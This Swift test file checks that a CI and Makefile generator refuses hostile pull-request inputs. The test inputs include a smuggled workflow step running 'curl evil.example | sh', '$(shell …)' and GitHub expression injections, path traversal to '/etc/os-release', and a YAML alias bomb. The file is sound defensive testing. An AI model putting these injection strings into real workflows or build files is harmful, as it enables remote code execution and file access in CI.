import Foundation
import Testing
import TestSupport
import Yams

/// The generator's side of "secure by construction": what a pull request's `targets/`, `Makefile.in`,
/// `targets/project.yml`, inventory or `.goldenpath-manifest` can make `generate`, `check` and the generated Makefile
/// and workflows do. Each test is one of the ways that used to work; each now ends in a located error that writes
/// nothing, or in an output where the string is inert.
@Suite("Generator security", .serialized)
struct GeneratorSecurityTests {
    /// A workspace of the echo fixture with its outputs generated.
    func generated() throws -> Workspace {
        let workspace = try Workspace(fixture: "Tests/Fixtures/echo")
        let result = try workspace.goldenpath(["generate"])
        #expect(result.status == 0, "\(result)")
        return workspace
    }

    /// Runs `generate` after `change` and expects exit 1, every one of `expected` on stderr, and no file changed.
    func expectRefused(_ expected: [String], file: String = "", change: (Workspace) throws -> Void) throws {
        let workspace = try generated()
        defer { workspace.remove() }
        try change(workspace)
        let before = workspace.directory.snapshot()
        let result = try Command.run([PackagePaths.goldenpath.path, "generate", "--root", workspace.url.path], timeout: 60)
        #expect(result.status == 1, "\(result)")
        for text in expected { #expect(result.stderr.contains(text), "expected \(text) in:\n\(result.stderr)") }
        #expect(result.stderr.contains("nothing was written"), "\(result)")
        #expect(workspace.directory.snapshot() == before, "files changed although the input was refused")
    }

    /// The project settings of the echo fixture with `extra` lines appended.
    func project(_ extra: String) -> String {
        "workflows:\n  pr-quality-check: {event: pull_request, gates: [1, 2]}\n" + extra
    }

    // MARK: Item 2: project and target strings reach the workflows

    @Test("an expression in 'check' or in a recipe is refused at its place")
    func expressionInCheckOrRecipe() throws {
        try expectRefused(["targets/project.yml:3:8: error: the value of 'check' contains '${{', which GitHub Actions would evaluate"]) {
            try $0.write(project("check: echo ${{ github.event.pull_request.title }}\n"), to: "targets/project.yml")
        }
        try expectRefused(["targets/lint.yml:2:10: error: the value of 'recipe' contains '${{'"]) {
            try $0.write("summary: x\nrecipe: ['echo ${{ github.head_ref }}']\n", to: "targets/lint.yml")
        }
    }

    @Test("runner labels are plain labels: an expression cannot pick the runner")
    func runnerLabels() throws {
        try expectRefused(["targets/project.yml:4:10: error: the value of 'gate1' contains '${{'"]) {
            try $0.write(project("runners:\n  gate1: ${{ github.event.pull_request.head.ref }}\n"), to: "targets/project.yml")
        }
        try expectRefused(["targets/project.yml:4:18: error: runner label 'lab x' of 'gate2' is not a plain label"]) {
            try $0.write(project("runners:\n  gate2: [linux, 'lab x']\n"), to: "targets/project.yml")
        }
    }

    @Test("a line break in 'artifacts' or 'vendor.pattern' is refused instead of adding a step or breaking the YAML")
    func lineBreaksInWorkflowStrings() throws {
        try expectRefused(["targets/lint.yml:3:13: error: the value of 'artifacts' contains a line break (U+000A)"]) {
            try $0.write("summary: x\nrecipe: [echo]\nartifacts: [\"out\\n-x\"]\n", to: "targets/lint.yml")
        }
        // The project's own 'artifacts' went into the upload step's 'path: |' block line by line.
        try expectRefused(["targets/project.yml:3:13: error: the value of 'artifacts' contains a line break (U+000A)"]) {
            try $0.write(project("artifacts: [\"logs\\n      - name: injected\\n        run: curl evil.example | sh\"]\n"), to: "targets/project.yml")
        }
        try expectRefused(["targets/project.yml:3:13: error: 'artifacts' lists '../outside', which leaves its folder with '..'"]) {
            try $0.write(project("artifacts: [../outside]\n"), to: "targets/project.yml")
        }
        try expectRefused(["targets/project.yml:3:34: error: the value of 'pattern' contains a line break (U+000A)"]) {
            try $0.write(project("vendor: {target: setup, pattern: \"*.tar.gz\\nx: y\"}\n"), to: "targets/project.yml")
        }
    }

    @Test("a branch named 'main,release' stays one branch")
    func branchWithComma() throws {
        let workspace = try generated()
        defer { workspace.remove() }
        try workspace.write("workflows:\n  pr-quality-check: {event: pull_request, branches: ['main,release', '[x]'], gates: [1, 2]}\n",
                            to: "targets/project.yml")
        let result = try workspace.goldenpath(["generate"])
        #expect(result.status == 0, "\(result)")
        let workflow = try Yams.load(yaml: try workspace.read(".github/workflows/pr-quality-check.yml")) as? [String: Any]
        let on = workflow?["on"] as? [String: Any]
        let pullRequest = on?["pull_request"] as? [String: Any]
        #expect(pullRequest?["branches"] as? [String] == ["main,release", "[x]"])
    }

    // MARK: Item 3: Makefile injection and silent rule loss

    @Test("a summary ending in a backslash keeps every rule, and '$(shell …)' in a summary or regenerate runs nowhere")
    func summaryBackslashAndShell() throws {
        let workspace = try generated()
        defer { workspace.remove() }
        let sentinel = workspace.directory.path("sentinel").path
        try workspace.write("summary: 'checks \\'\nneeds: [setup]\nrecipe: ['echo \"lint\" >> $(LOG)']\ngate: 1\n", to: "targets/lint.yml")
        try workspace.write("summary: 'run $(shell touch \(sentinel)) and `touch \(sentinel)` $$x'\nrecipe: ['echo test >> $(LOG)']\ngate: 1\n",
                            to: "targets/test.yml")
        try workspace.write(project("regenerate: make gen $(shell touch \(sentinel))\n"), to: "targets/project.yml")
        let result = try workspace.goldenpath(["generate"])
        #expect(result.status == 0, "\(result)")
        try workspace.write("pinned\n", to: "requirements.txt")
        try workspace.write("site\n", to: "site.txt")
        try workspace.write("", to: "vendor/a.tar.gz")
        let dry = try Command.run(["make", "-n", "lint"], in: workspace.url)
        #expect(dry.status == 0, "\(dry)")
        #expect(dry.stdout.contains("echo \"lint\" >> log.txt"), "the lint rule lost its recipe:\n\(dry)")
        let database = try Command.run(["make", "-pn", "help"], in: workspace.url)
        #expect(database.status == 0, "\(database)")
        #expect(database.stdout.contains("\nlint: setup\n"), "no lint rule in make's database")
        let help = try Command.run(["make", "help"], in: workspace.url)
        #expect(help.status == 0, "\(help)")
        #expect(help.stdout.contains("run $(shell touch \(sentinel)) and `touch \(sentinel)` $$x"), "\(help)")
        #expect(help.stdout.contains("make gen $(shell touch \(sentinel))"), "\(help)")
        #expect(!FileManager.default.fileExists(atPath: sentinel), "a string from targets/ ran as a command")
    }

    @Test("a line break in env, inputs, marker or regenerate is refused at its place")
    func lineBreaksInMakeStrings() throws {
        try expectRefused(["targets/lint.yml:3:10: error: the value of 'A' contains a line break"]) {
            try $0.write("summary: x\nrecipe: [echo]\nenv: {A: \"1\\nx := $(shell touch /tmp/gp-x)\"}\n", to: "targets/lint.yml")
        }
        try expectRefused(["targets/setup.yml:3:10: error: the value of 'inputs' contains a line break"]) {
            try $0.write("summary: x\nrecipe: [echo]\ninputs: [\"a\\nb: c\"]\nmarker: .make/setup.done\n", to: "targets/setup.yml")
        }
        try expectRefused(["targets/setup.yml:3:9: error: the value of 'marker' contains a line break"]) {
            try $0.write("summary: x\nrecipe: [echo]\nmarker: \".make/s\\nall: evil\"\n", to: "targets/setup.yml")
        }
        try expectRefused(["targets/project.yml:3:13: error: the value of 'regenerate' contains a line break"]) {
            try $0.write(project("regenerate: \"make gen\\nx := $(shell touch /tmp/gp-x)\"\n"), to: "targets/project.yml")
        }
        try expectRefused(["targets/lint.yml:2:10: error: recipe line 'echo a \\' of target 'lint' ends with a backslash"]) {
            try $0.write("summary: x\nrecipe: ['echo a \\', 'echo b']\n", to: "targets/lint.yml")
        }
    }

    // MARK: Item 4: names that collide with the Makefile's own files and rules

    @Test("a target named 'targets', or named like a file the rules use, or defined again in Makefile.in, is refused")
    func collidingNames() throws {
        try expectRefused(["targets/targets.yml:1:1: error: target name 'targets' is reserved by the generated Makefile"]) {
            try $0.write("summary: x\nrecipe: [echo]\n", to: "targets/targets.yml")
        }
        try expectRefused(["targets/requirements.yml:1:1: error: target name 'requirements' is also an input of target 'setup'"]) {
            try $0.write("summary: x\nrecipe: [echo]\ninputs: [requirements]\nmarker: .make/setup.done\n", to: "targets/setup.yml")
            try $0.write("summary: x\nrecipe: [echo]\n", to: "targets/requirements.yml")
        }
        try expectRefused(["Makefile.in:3:1: error: Makefile.in defines a rule for 'lint', which the generated rules also define"]) {
            try $0.write("LOG = log.txt\n@RULES@\nlint:\n\techo mine\n", to: "Makefile.in")
        }
    }

    // MARK: Item 5: writes, reads and deletes outside the repository

    @Test("the verification playbook must be a file of its own inside the repository")
    func playbookPath() throws {
        for (path, phrase) in [("/tmp/x.yml", "is absolute"), ("../x.yml", "leaves its folder with '..'"),
                               ("targets/project.yml", "would overwrite a source of the generator"),
                               ("Makefile", "would overwrite another generated file"),
                               (".github/workflows/pr-quality-check.yml", "would overwrite a generated or hand-written workflow"),
                               (".github/goldenpath-check.sh", "would overwrite another generated file")] {
            try expectRefused(["targets/project.yml:3:", phrase]) {
                try $0.write("spec\n", to: "docs/spec.md")
                try $0.write(project("verification: {spec: docs/spec.md, playbook: '\(path)'}\n"), to: "targets/project.yml")
            }
        }
    }

    @Test("two outputs never share a path: the installer cannot overwrite the verification probe")
    func outputCollision() throws {
        try expectRefused(["targets/project.yml:", "two outputs would be written to playbooks/library/goldenpath_verify.py"]) {
            try $0.write(try String(contentsOf: PackagePaths.path("docs/verification-spec.md"), encoding: .utf8), to: "docs/spec.md")
            try $0.write(try String(contentsOf: PackagePaths.path("inventory/lab.yml"), encoding: .utf8), to: "inventory/lab.yml")
            try $0.write(project("verification: {spec: docs/spec.md, playbook: playbooks/v.yml, inventory: inventory/lab.yml}\n"
                                 + "collections: {installer: playbooks/library/goldenpath_verify.py}\n"), to: "targets/project.yml")
        }
    }

    @Test("manifest lines outside the repository are refused: generate deletes nothing, check reads nothing")
    func manifestOutside() throws {
        let outside = try TemporaryDirectory(prefix: "goldenpath-victim")
        defer { outside.remove() }
        let victim = outside.path("Makefile")
        let header = "# Generated by goldenpath 0.1.0\n# goldenpath-version: 0.1.0\n# inputs-sha256:x\n# output-sha256:y\n# end of goldenpath header\nkeep\n"
        try header.write(to: victim, atomically: true, encoding: .utf8)
        let workspace = try generated()
        defer { workspace.remove() }
        let relative = String(repeating: "../", count: workspace.url.pathComponents.count) + String(victim.path.dropFirst())
        let manifest = try workspace.read(".goldenpath-manifest")
        let line = manifest.split(separator: "\n").count + 1
        try workspace.write(manifest + relative + "\n", to: ".goldenpath-manifest")
        let generate = try workspace.goldenpath(["generate"])
        #expect(generate.status == 1, "\(generate)")
        #expect(generate.stderr.contains(".goldenpath-manifest:\(line):1: error: the entry '\(relative)' leaves its folder with '..'"), "\(generate)")
        #expect(FileManager.default.fileExists(atPath: victim.path), "generate deleted a file outside the repository")

        try workspace.write(manifest + "/etc/os-release\n", to: ".goldenpath-manifest")
        let check = try workspace.goldenpath(["check"])
        #expect(check.status == 1, "\(check)")
        #expect(check.stderr.contains(".goldenpath-manifest:\(line):1: error: the entry '/etc/os-release' is absolute"), "\(check)")
        #expect(!check.output.contains("PRETTY_NAME"), "check printed a file from outside the repository")

        try workspace.write(manifest + "targets/lint.yml\n", to: ".goldenpath-manifest")
        let source = try workspace.goldenpath(["generate"])
        #expect(source.status == 1, "\(source)")
        #expect(source.stderr.contains("is a source of the generator, which generate must never remove"), "\(source)")
    }

    @Test("a symlinked output folder that leads outside the repository is refused")
    func symlinkOut() throws {
        let outside = try TemporaryDirectory(prefix: "goldenpath-outside")
        defer { outside.remove() }
        let workspace = try Workspace(fixture: "Tests/Fixtures/echo")
        defer { workspace.remove() }
        try FileManager.default.createDirectory(at: workspace.directory.path(".github"), withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: workspace.directory.path(".github/workflows").path, withDestinationPath: outside.url.path)
        let result = try workspace.goldenpath(["generate"])
        #expect(result.status != 0, "\(result)")
        #expect(result.stderr.contains("is a symbolic link to"), "\(result)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: outside.url.path).isEmpty, "generate wrote outside the repository")
    }

    // MARK: Item 9: a YAML alias bomb

    @Test("an alias bomb in the inventory is refused at once with its place, by generate and check")
    func aliasBomb() throws {
        let workspace = try generated()
        defer { workspace.remove() }
        var lines = ["all:", "  children:", "    g0: &a0 {hosts: {h1: {}, h2: {}}}"]
        for level in 1...8 {
            let items = (0..<9).map { "x\(level)\($0): *a\(level - 1)" }.joined(separator: ", ")
            lines.append("    g\(level): &a\(level) {children: {\(items)}}")
        }
        try workspace.write(lines.joined(separator: "\n") + "\n", to: "inventory/lab.yml")
        try workspace.write("## A\n", to: "docs/spec.md")
        try workspace.write(project("verification: {spec: docs/spec.md, playbook: playbooks/verify.yml, inventory: inventory/lab.yml}\n"),
                            to: "targets/project.yml")
        for command in ["generate", "check"] {
            let result = try Command.run([PackagePaths.goldenpath.path, command, "--root", workspace.url.path], timeout: 60)
            #expect(result.status == 1, "\(result)")
            #expect(result.stderr.contains("inventory/lab.yml:"), "\(result)")
            #expect(result.stderr.contains("the YAML expands to more than 200000 values"), "\(result)")
        }
    }

    // MARK: Item 10: the generator's lesser findings

    @Test("check fails on a generated-looking workflow that nothing produces or lists")
    func unlistedWorkflow() throws {
        let workspace = try generated()
        defer { workspace.remove() }
        let copy = try workspace.read(".github/workflows/pr-quality-check.yml")
        try workspace.write(copy, to: ".github/workflows/extra.yml")
        let check = try workspace.goldenpath(["check"])
        #expect(check.status == 1, "\(check)")
        #expect(check.stderr.contains(".github/workflows/extra.yml: unlisted: it carries a goldenpath header"), "\(check)")
        let generate = try workspace.goldenpath(["generate"])
        #expect(generate.stderr.contains("warning: .github/workflows/extra.yml carries a goldenpath header"), "\(generate)")
        // The drift check that CI runs without Swift sees it too.
        let shell = try Command.run(["bash", ".github/goldenpath-check.sh"], in: workspace.url)
        #expect(shell.status == 1, "\(shell)")
        #expect(shell.stderr.contains(".github/workflows/extra.yml: unlisted: it carries a goldenpath header"), "\(shell)")
    }

    @Test("a byte order mark, a huge timeout and an empty 'needs' entry are located errors")
    func lesserInputs() throws {
        try expectRefused(["targets/lint.yml:1:1: error: the file starts with a UTF-8 byte order mark"]) {
            try $0.write("\u{FEFF}summary: x\nrecipe: [echo]\n", to: "targets/lint.yml")
        }
        try expectRefused(["targets/lint.yml:3:10: error: 'timeout' is not a duration: '99999999999999999d'"]) {
            try $0.write("summary: x\nrecipe: [echo]\ntimeout: 99999999999999999d\n", to: "targets/lint.yml")
        }
        try expectRefused(["targets/lint.yml:3:10: error: 'timeout' of target 'lint' is 100000h, longer than GitHub Actions runs a job"]) {
            try $0.write("summary: x\nrecipe: [echo]\ntimeout: 100000h\n", to: "targets/lint.yml")
        }
        try expectRefused(["targets/lint.yml:3:8: error: 'needs' of target 'lint' has an empty entry"]) {
            try $0.write("summary: x\nrecipe: [echo]\nneeds: ''\n", to: "targets/lint.yml")
        }
    }

    @Test("temporary files of a killed generate are swept by the next one, and kill -9 never leaves a broken output")
    func killedWriters() throws {
        let workspace = try generated()
        defer { workspace.remove() }
        // Leftovers of writers that no longer run (pid 2^22+1 is above Linux's pid_max), in both naming forms.
        let dead = 4_194_305
        try workspace.write("half", to: ".github/workflows/.pr-quality-check.yml.goldenpath-\(dead)-42.tmp")
        try workspace.write("half", to: ".Makefile.tmp-\(dead)")
        try workspace.write("summary: changed\nneeds: [setup]\nrecipe: [echo]\ngate: 1\n", to: "targets/lint.yml")
        // Real kills, at whatever point each run has reached.
        for round in 0..<20 {
            let process = Process()
            process.executableURL = PackagePaths.goldenpath
            process.arguments = ["generate", "--quiet", "--root", workspace.url.path]
            try process.run()
            usleep(UInt32(1_000 * (round % 10)))
            kill(process.processIdentifier, SIGKILL)
            process.waitUntilExit()
        }
        let final = try workspace.goldenpath(["generate"])
        #expect(final.status == 0, "\(final)")
        let leftovers = workspace.directory.snapshot().keys.filter { $0.contains(".tmp") }
        #expect(leftovers.isEmpty, "temporary files left: \(leftovers.sorted())")
        let check = try workspace.goldenpath(["check"])
        #expect(check.status == 0, "\(check)")
    }

    @Test("concurrent generate runs removing the same obsolete workflow all succeed")
    func concurrentRemoval() throws {
        // Four at once, 25 times: enough for the race between reading the file and removing it to show.
        for _ in 0..<25 {
            let workspace = try generated()
            defer { workspace.remove() }
            try workspace.write("workflows:\n  renamed: {event: pull_request, gates: [1, 2]}\n", to: "targets/project.yml")
            let runs = (0..<4).map { _ in
                let process = Process()
                process.executableURL = PackagePaths.goldenpath
                process.arguments = ["generate", "--quiet", "--root", workspace.url.path]
                process.standardError = FileHandle.nullDevice
                return process
            }
            for run in runs { try run.run() }
            for run in runs { run.waitUntilExit() }
            #expect(runs.map(\.terminationStatus) == [0, 0, 0, 0])
            #expect(!workspace.exists(".github/workflows/pr-quality-check.yml"))
        }
    }

    // MARK: Issue 9, item 4: Makefile.in placeholders

    @Test("@RULES@ exactly once and alone on its line; a commented one is an error, not a broken Makefile")
    func rulesPlaceholder() throws {
        try expectRefused(["Makefile.in:2:3: error: @RULES@ is inside a comment in Makefile.in"]) {
            try $0.write("LOG = log.txt\n# @RULES@\n", to: "Makefile.in")
        }
        try expectRefused(["Makefile.in:1:1: error: Makefile.in has no @RULES@ line"]) {
            try $0.write("LOG = log.txt\n", to: "Makefile.in")
        }
        try expectRefused(["Makefile.in:3:1: error: @RULES@ appears 2 times in Makefile.in (first on line 2)"]) {
            try $0.write("LOG = log.txt\n@RULES@\n@RULES@\n", to: "Makefile.in")
        }
        try expectRefused(["Makefile.in:2:8: error: @RULES@ shares its line with other text in Makefile.in"]) {
            try $0.write("LOG = log.txt\nX := 1 @RULES@\n", to: "Makefile.in")
        }
        try expectRefused(["Makefile.in:2:1: error: @RULES@ continues the line before it"]) {
            try $0.write("LOG = log.txt \\\n@RULES@\n", to: "Makefile.in")
        }
        try expectRefused(["Makefile.in:2:11: error: unknown placeholder '@RULE@' in Makefile.in"]) {
            try $0.write("LOG = log.txt\n# before: @RULE@\n@RULES@\n", to: "Makefile.in")
        }
    }
}
